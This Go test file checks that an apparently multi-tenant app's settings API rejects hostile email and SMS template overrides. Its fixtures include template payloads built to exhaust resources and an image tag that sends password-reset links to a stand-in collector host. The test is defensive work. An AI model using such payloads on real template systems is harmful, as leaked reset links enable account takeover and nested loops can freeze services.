package app_test

import (
	"strings"
	"testing"
)

// Issue 15's hostile overrides, through the API: each is a 400 that names
// the construct and where it stands, and nothing of it is stored (the
// settings read back as before, and the reset mail keeps its wording).
func TestHostileTemplateOverrides(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	tok := h.admin()
	path := P + "/institutions/acme/settings"
	before := h.do("GET", path, tok, nil)
	tests := []struct {
		name string
		over map[string]string
		want []string
	}{
		{"a range that froze every tenant", map[string]string{"reset_link.email.subject": "{{range 200000000}}{{end}}"}, []string{"range is not allowed", "at line 1, column 1:"}},
		{"a conditional that rendered 4.3 GiB", map[string]string{"reset_link.email.text": "{{.Link}}\n{{if .Link}}{{range 9999}}{{range 9999}}{{.Link}}{{end}}{{end}}{{end}}"}, []string{"range is not allowed", "at line 2, column 13:"}},
		{"a tracking pixel that leaked the link", map[string]string{"reset_link.email.html": `<p><a href="{{.Link}}">Reset</a></p><img src="https://collector.example/p.gif?l={{.Link}}">`}, []string{"https://collector.example/p.gif?l=", "linkBases"}},
		{"a function call", map[string]string{"otp.sms.text": `{{printf "%s" .Code}}`}, []string{`function call \"printf\"`}},
		{"a define", map[string]string{"otp.email.text": `{{define "x"}}{{end}}{{.Code}}`}, []string{"define is not allowed"}},
		{"a with", map[string]string{"otp.email.text": `{{with .Code}}{{.}}{{end}}`}, []string{"with is not allowed"}},
		{"an oversized override", map[string]string{"otp.email.text": strings.Repeat("x", 16<<10+1)}, []string{"at most 16384"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := h.do("PUT", path, tok, map[string]any{"templates": tc.over})
			if r.Status != 400 {
				t.Fatalf("PUT: %d %s, want 400", r.Status, r.Body)
			}
			body := string(r.Body)
			for _, w := range append(tc.want, `"field":"templates"`) {
				if !strings.Contains(body, w) {
					t.Errorf("problem %s does not say %q", body, w)
				}
			}
		})
	}
	if after := h.do("GET", path, tok, nil); string(after.Body) != string(before.Body) {
		t.Errorf("settings changed by refused PUTs:\n%s\n%s", before.Body, after.Body)
	}
	h.putUser(tok, "acme", "u", map[string]any{"username": "u", "email": "u@example.com"})
	h.resetLink(tok, "acme", "u")
	if got := h.mail.Messages()[0].Subject; got != "Reset your Acme Bank password" {
		t.Errorf("subject %q after refused overrides", got)
	}

	// The attack next door: the link bases the URL check reads are
	// changed later, by the settings PUT, so the overrides are checked
	// again then.
	h.putSettings(tok, map[string]any{
		"linkBases": []string{"https://collector.example/reset"},
		"templates": map[string]string{"reset_link.email.html": `<p><a href="{{.Link}}">Reset</a> <img src="https://collector.example/reset/p.gif"></p>`},
	})
	if r := h.do("PUT", path, tok, map[string]any{"linkBases": []string{"https://reset.acme.example/reset"}}); r.Status != 400 || !strings.Contains(string(r.Body), "https://collector.example/reset/p.gif") {
		t.Errorf("link bases changed under an override that names the old one: %d %s", r.Status, r.Body)
	}
}
